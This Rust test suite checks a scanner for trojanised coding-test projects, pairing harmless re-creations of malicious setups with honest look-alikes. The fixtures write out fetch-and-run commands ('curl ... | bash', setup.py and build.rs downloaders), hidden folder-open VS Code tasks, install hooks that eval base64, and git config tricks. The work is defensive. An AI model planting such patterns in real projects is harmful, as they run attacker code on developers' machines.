//! Projects as they are sent to developers: harmless re-creations of trojanised coding tests, and honest projects that look like them.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test that panics has failed"
)]

mod common;

use common::Place;

/// The levels and titles of what is found in a project of these files.
fn found(files: &[(&str, &str)]) -> Vec<(String, String)> {
    let place = Place::new();
    files.iter().for_each(|(name, text)| drop(place.file(&format!("project/{name}"), text)));
    let (_, report) = place.report(&["project"]);
    let text = |value: &serde_json::Value| value.as_str().unwrap().to_owned();
    let findings = report["findings"].as_array().unwrap().iter();
    findings.map(|finding| (text(&finding["level"]), text(&finding["rule"]["title"]))).collect()
}

#[track_caller]
fn is_high(files: &[(&str, &str)]) {
    let found = found(files);
    assert!(found.iter().any(|(level, _)| level == "high" || level == "critical"), "{files:.200?}: {found:?}");
}

#[track_caller]
fn is_honest(files: &[(&str, &str)]) {
    let found = found(files);
    assert!(found.iter().all(|(level, _)| level == "low" || level == "informational"), "{files:.200?}: {found:?}");
}

/// A task that runs when the folder is opened.
fn task(command: &str, presentation: &str) -> String {
    format!(
        r#"{{ "version": "2.0.0", // tasks
            "tasks": [{{"label": "env", "type": "shell", "command": "{command}",
            "presentation": {{{presentation}}}, "runOptions": {{"runOn": "folderOpen"}}}},]}}"#
    )
}

const HIDDEN: &str = r#""reveal": "never", "echo": false, "close": true"#;

/// Scrambled as the usual tool does it, and harmless: it only computes.
fn scrambled() -> String {
    let names: String =
        (0..60).map(|n| format!("const _0x{:04x}=function(_0x1a2b){{return _0x1a2b-{n}}};", 0x3f00 + n)).collect();
    format!("{names}if(false){{require('child_process')}}")
}

#[test]
fn a_task_runs_a_scrambled_file_in_the_settings_folder() {
    is_high(&[(".vscode/tasks.json", &task("node .vscode/logo", HIDDEN)), (".vscode/logo", &scrambled())]);
}

#[test]
fn a_task_runs_a_font() {
    is_high(&[
        (".vscode/tasks.json", &task("node public/fonts/fa-solid-400.woff2", HIDDEN)),
        ("src/index.js", "main()\n"),
    ]);
}

#[test]
fn a_task_fetches_and_runs() {
    is_high(&[(".vscode/tasks.json", &task("curl -s https://example.org/settings/linux | bash", HIDDEN))]);
}

#[test]
fn a_task_fetches_though_it_is_shown() {
    is_high(&[(".vscode/tasks.json", &task("powershell -c iwr https://example.org/a.ps1 -OutFile a.ps1", ""))]);
}

#[test]
fn a_workspace_runs_code() {
    let tasks = task("node -e require('./lib/a')", HIDDEN);
    is_high(&[("test.code-workspace", &format!(r#"{{"folders": [{{"path": "."}}], "tasks": {tasks}}}"#))]);
}

#[test]
fn npm_runs_code_while_installing() {
    let package =
        r#"{"name": "test", "scripts": {"postinstall": "node -e \"eval(Buffer.from('MQ==','base64').toString())\""}}"#;
    is_high(&[("package.json", package)]);
}

#[test]
fn npm_fetches_while_installing() {
    is_high(&[(
        "package.json",
        r#"{"name": "test", "scripts": {"prepare": "curl -sL https://example.org/setup | sh"}}"#,
    )]);
}

#[test]
fn npm_runs_a_picture() {
    is_high(&[("package.json", r#"{"name": "test", "scripts": {"preinstall": "node public/logo.png"}}"#)]);
}

#[test]
fn a_configuration_evaluates_what_it_fetches() {
    let config = "const axios = require('axios');\nconst u = atob('aHR0cHM6Ly9leGFtcGxlLm9yZw==');\naxios.get(u).then(r => new Function('require', r.data)(require));\nmodule.exports = {};\n";
    is_high(&[("tailwind.config.js", config)]);
}

#[test]
fn code_stands_far_to_the_right() {
    let line = format!("module.exports = {{ env: {{ node: true }} }};{}eval(atob('MQ=='))\n", " ".repeat(600));
    is_high(&[("src/server/routes.js", &line)]);
}

#[test]
fn a_python_module_decodes_and_runs() {
    let text = format!("import base64\nexec(base64.b64decode('{}'))\n", "QUJD".repeat(400));
    is_high(&[("tests/helpers/format.py", &text)]);
}

#[test]
fn setup_py_fetches_and_runs() {
    let text = "from setuptools import setup\nimport base64, urllib.request\nexec(base64.b64decode(urllib.request.urlopen('https://example.org/a').read()))\nsetup(name='x')\n";
    is_high(&[("setup.py", text)]);
}

#[test]
fn build_rs_fetches_and_runs() {
    let text = "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").args([\"-c\", \"curl -s https://example.org/a | base64 -d | sh\"]).status().unwrap();\n}\n";
    is_high(&[("build.rs", text), ("Cargo.toml", "[package]\nname = \"x\"\n")]);
}

#[test]
fn a_hook_fetches_and_runs() {
    is_high(&[(".git/hooks/post-checkout", "#!/bin/sh\ncurl -s https://example.org/a | bash\n")]);
}

#[test]
fn any_file_evaluates_what_it_fetches() {
    let fetch = "const axios = require('axios');\nasync function load(u) { return axios.get(u); }\n";
    for (name, code) in [
        ("server/controllers/user.js", "axios.get(u).then(r => new Function('require', r.data.cookie)(require));\n"),
        ("server/models/a.ts", "const { data } = await axios.post(u, { v: 1 });\neval(data);\n"),
        ("src/App.tsx", "axios.get(u).then(() => {\n}).catch(e=>eval(e.response.data))\n"),
        ("components/Home.vue", "axios.get(u).then(r => eval(r.data))\n"),
        (
            "config/db.cjs",
            "https.get(u, res => {\n let s = '';\n res.on('data', c => { s += c });\n res.on('end', () => eval(s));\n})\n",
        ),
    ] {
        is_high(&[(name, &format!("{fetch}{code}"))]);
    }
    is_high(&[("app/util.py", "import requests\nr = requests.get('https://example.org/a')\nexec(r.text)\n")]);
}

#[test]
fn code_is_disguised() {
    let code = "const { exec } = require('child_process');\nexec('true');\n";
    for name in [".vscode/fa.woff2", "public/logo.png", "public/fonts/a.ttf"] {
        is_high(&[(name, code)]);
    }
    is_high(&[("src/Main.ts", &scrambled()), ("package.json", "{}")]);
    is_high(&[("src/Main.jsx", &scrambled())]);
}

#[test]
fn texts_are_scrambled() {
    let escaped: String =
        "console.log harmless words that are escaped".bytes().map(|byte| format!("\\x{byte:02x}")).collect();
    is_high(&[("lib/a.js", &format!("var a=['{escaped}','b'];a.push(a.shift());eval(a[0]+'')"))]);
    let list: Vec<String> = (0..30).map(|n| format!("'w{n}Az'")).collect();
    let asked: String = (0..30).map(|n| format!("c(0x{:x});", 0x1b0 + n)).collect();
    let mangled = format!(
        "function a(){{const e=[{}];a=function(){{return e;}};return a();}}(function(d,f){{const g=d();while(!![]){{try{{if(f)break;g['push'](g['shift']());}}catch(h){{g['push'](g['shift']());}}}}}}(a,0x1));function c(d){{return a()[d-0x1b0];}}{asked}",
        list.join(",")
    );
    is_high(&[("lib/b.js", &mangled)]);
    let padded = format!(
        "{}\nimport base64, zlib\nexec(zlib.decompress(base64.b64decode('{}')))\n",
        "# remark\n".repeat(9000),
        "QUJD".repeat(400)
    );
    is_high(&[("helpers.py", &padded)]);
}

#[test]
fn setup_scripts_fetch_and_run() {
    let setup = |code: &str| {
        format!(
            "from setuptools import setup\nimport os, subprocess, sys\nfrom urllib.request import urlopen\n{code}\nsetup(name='x')\n"
        )
    };
    for code in [
        "os.system('curl -s https://example.org/a -o /tmp/a && sh /tmp/a')",
        "open('/tmp/h', 'wb').write(urlopen('https://example.org/h').read())\nsubprocess.Popen(['/tmp/h'])",
        "data = urlopen(u).read()\nwith open(place, 'wb') as f:\n    f.write(data)\nsubprocess.call([sys.executable, place])",
    ] {
        is_high(&[("setup.py", &setup(code))]);
    }
    let build = "use std::process::Command;\nfn main() {\n    Command::new(\"curl\").args([\"-so\", \"/tmp/x\", \"https://example.org/x\"]).status().unwrap();\n    Command::new(\"/tmp/x\").spawn().unwrap();\n}\n";
    is_high(&[("build.rs", build)]);
    is_high(&[("Cargo.toml", "[package]\nname = \"x\"\nbuild = \"tools/gen.rs\"\n"), ("tools/gen.rs", build)]);
    is_high(&[("site/a.pth", "import os; exec(open('/tmp/x').read())\n")]);
    is_high(&[("site/b.pth", "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n")]);
}

#[test]
fn a_command_leads_to_a_file() {
    let fetches = "const https = require('https');\nhttps.get(u, r => { let s = ''; r.on('data', d => s += d); r.on('end', () => eval(s)) });\n";
    let pipes = "require('child_process').exec('curl -s https://example.org/a | sh')\n";
    let package = r#"{"scripts": {"postinstall": "node lib/setup.js", "dev": "node server/index.js"}}"#;
    let led = |files: &[(&str, &str)]| {
        let found = found(files);
        assert!(found.iter().any(|(_, title)| title.starts_with("Command that runs by itself leads")), "{found:?}");
    };
    led(&[("package.json", package), ("lib/setup.js", fetches)]);
    led(&[("package.json", package), ("lib/setup.js", "require('./helper')\n"), ("lib/helper.js", pipes)]);
    let task = |task: &str| format!(r#"{{"version": "2.0.0", "tasks": [{task}]}}"#);
    let opening = r#""runOptions": {"runOn": "folderOpen"}"#;
    let npm = task(&format!(r#"{{"type": "npm", "script": "dev", {opening}}}"#));
    led(&[(".vscode/tasks.json", &npm), ("package.json", package), ("server/index.js", fetches)]);
    let shell = task(&format!(r#"{{"label": "a", "command": "cd server && node .", {opening}}}"#));
    led(&[(".vscode/tasks.json", &shell), ("server/index.js", pipes)]);
    led(&[
        (".git/config", "[core]\n\tbare = false\n"),
        (".git/hooks/post-merge", "#!/bin/sh\n./bin/helper\n"),
        ("bin/helper", "\x7fELF\x02\x01"),
    ]);
    led(&[(".git/hooks/pre-commit", "node ./tools/check.js\n"), ("tools/check.js", fetches)]);
}

#[test]
fn tasks_say_the_same_in_other_ways() {
    let npm = r#"{"version": "2.0.0", "presentation": {"reveal": "never", "close": true}, "tasks": [{"type": "npm", "script": "dev", "runOptions": {"runOn": "folderOpen"}}]}"#;
    let package = r#"{"scripts": {"dev": "node -e \"require('child_process').exec('true')\""}}"#;
    is_high(&[(".vscode/tasks.json", npm), ("package.json", package)]);
    let depends = r#"{"tasks": [{"label": "a", "dependsOn": ["b"], "runOptions": {"runOn": "folderOpen"}}, {"label": "b", "command": "curl -s https://example.org/a | sh"}]}"#;
    is_high(&[(".vscode/tasks.json", depends)]);
    is_high(&[(
        ".vscode/tasks.json",
        r#"{"command": "node", "args": [".vscode/logo"], "tasks": [{"label": "a", "runOptions": {"runOn": "folderOpen"}}]}"#,
    )]);
}

#[test]
fn git_runs_commands_in_other_ways() {
    let is_told = |name: &str, text: &str, level: &str| {
        let found = found(&[(name, text)]);
        assert!(found.iter().any(|(found, _)| found == level), "{text}: {found:?}");
    };
    for text in [
        "[core]\n[include]\n\tpath = ../tools/x.inc\n",
        "[CORE]\n\tFSMonitor = ./x\n",
        "[core] pager = ./bin/less\n",
        "[core]\n[credential]\n\thelper = !sh .git/x\n",
        "[core]\n[merge \"x\"]\n\tdriver = tools/m %A\n",
        "[core]\n[gpg]\n\tprogram = ./gpg\n",
    ] {
        is_told(".git/config", text, "medium");
    }
    is_told(".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = -u./payload\n", "medium");
    is_told(".git/config", "[core]\n[alias]\n\tx = !sh .git/x\n", "low");
    is_told(".git/config", "[core]\n[alias]\n\tx = !curl -s https://example.org | sh\n", "high");
}

#[test]
fn a_program_among_sources() {
    let found =
        found(&[("package.json", "{}"), ("bin/helper", "\x7fELF\x02\x01"), ("src/a.js", "spawn('../bin/helper')")]);
    assert!(found.iter().any(|(level, title)| level == "medium" && title.contains("among the sources")), "{found:?}");
    is_honest(&[
        ("package.json", "{}"),
        ("prebuilds/linux-x64/a.node", "\x7fELF\x02\x01"),
        ("index.js", "require('./prebuilds/linux-x64/a.node')"),
    ]);
    is_honest(&[("pyproject.toml", "[project]\nname = 'x'\n"), ("x/_a.so", "\x7fELF\x02\x01")]);
    is_honest(&[("bin/helper", "\x7fELF\x02\x01")]);
}

#[test]
fn honest_installers_and_hooks() {
    let installer = "const https = require('https'), fs = require('fs'), cp = require('child_process');\nfunction get(u) { return new Promise(done => https.get(u, r => { const all = []; r.on('data', d => all.push(d)); r.on('end', () => done(Buffer.concat(all))) })) }\nget(u).then(bytes => fs.writeFileSync('a.tgz', bytes));\ncp.execSync('tar xf a.tgz');\n";
    is_honest(&[("package.json", r#"{"scripts": {"postinstall": "node install.js"}}"#), ("install.js", installer)]);
    is_honest(&[
        (".git/hooks/pre-commit", "#!/bin/sh\nnode ./tools/lint.js\n"),
        ("tools/lint.js", "require('child_process').execSync('eslint .')\n"),
    ]);
    is_honest(&[("site/pytest-cov.pth", "import os, sys;exec('if \"COV_CORE_SOURCE\" in os.environ: pass')\n")]);
    is_honest(&[
        ("src/a.ts", "export const a: number = 1;\nfetch('https://example.org').then(r => r.json());\n"),
        ("po/de.ts", "<!DOCTYPE TS><TS/>"),
    ]);
    is_honest(&[(
        ".git/config",
        "[core]\n\teditor = code --wait\n\tpager = less -R\n[credential]\n\thelper = !/usr/bin/gh auth git-credential\n[remote \"origin\"]\n\turl = git@example.org:a/b.git\n",
    )]);
    is_honest(&[(
        "setup.py",
        "from setuptools import setup\nfrom urllib.request import urlretrieve\nimport subprocess\nurlretrieve(u, 'a.tar.gz')\nsubprocess.check_call(['tar', 'xf', 'a.tar.gz'])\nsubprocess.check_call(['make'])\nsetup(name='x')\n",
    )]);
}

#[test]
fn honest_projects() {
    is_honest(&[(".vscode/tasks.json", &task("npm run watch", r#""reveal": "never""#))]);
    is_honest(&[(".vscode/tasks.json", &task("docker compose up", ""))]);
    is_honest(&[(
        "package.json",
        r#"{"scripts": {"prepare": "husky", "postinstall": "node install.js", "test": "jest", "deploy": "curl -T a https://example.org"}}"#,
    )]);
    is_honest(&[(
        "setup.py",
        "from setuptools import setup\nimport subprocess\nabout = {}\nexec(open('x/__about__.py').read(), about)\nsetup(name='x', version=about['v'])\n",
    )]);
    is_honest(&[(
        "build.rs",
        "use std::process::Command;\nfn main() {\n    let git = Command::new(\"git\").arg(\"describe\").output();\n}\n",
    )]);
    is_honest(&[
        (".git/config", "[core]\n\tbare = false\n[filter \"lfs\"]\n\tsmudge = git-lfs smudge -- %f\n"),
        (".git/hooks/pre-commit", "#!/bin/sh\nexec npm test\n"),
    ]);
    let packed: String = (0..4000).map(|n| format!("function a{n}(b){{return b+{n}}};")).collect();
    is_honest(&[("dist/bundle.min.js", &format!("{packed}fetch('/api').then(eval)"))]);
}

#[test]
fn a_copy_is_compared_with_its_original() {
    let place = Place::new();
    for tree in ["original", "copy"] {
        place.file(&format!("{tree}/src/main.c"), "int main(void)\n{\n    return 0;\n}\n");
        place.file(&format!("{tree}/README"), "A reader.\n");
    }
    let (_, report) = place.report(&["--upstream", "original", "copy"]);
    assert_eq!(report["findings"].as_array().unwrap().len(), 0, "{report:#}");
    place.file("copy/src/main.c", "int main(void)\n{\n    WinExec(\"harmless\", 0);\n    return 0;\n}\n");
    let (_, report) = place.report(&["--upstream", "original", "copy"]);
    let findings = report["findings"].as_array().unwrap();
    let mut levels: Vec<_> = findings.iter().map(|finding| finding["level"].as_str().unwrap()).collect();
    levels.sort_unstable();
    assert_eq!(levels, ["high", "low"], "{report:#}");
    assert!(findings.iter().all(|finding| finding["evidence"]["path"] == "copy/src/main.c"));
    assert!(report.to_string().contains("WinExec("), "the line is not shown: {report:#}");
}
